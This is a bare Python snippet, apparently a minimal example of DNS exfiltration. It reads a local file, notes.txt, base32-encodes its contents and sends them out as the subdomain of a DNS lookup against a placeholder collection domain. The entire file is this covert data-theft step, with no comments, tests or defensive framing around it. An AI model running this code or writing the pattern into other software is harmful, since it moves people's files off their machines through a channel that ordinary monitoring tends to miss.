import base64
import socket

label = base64.b32encode(open("notes.txt", "rb").read()).decode().lower()
socket.gethostbyname(f"{label}.collect.invalid")
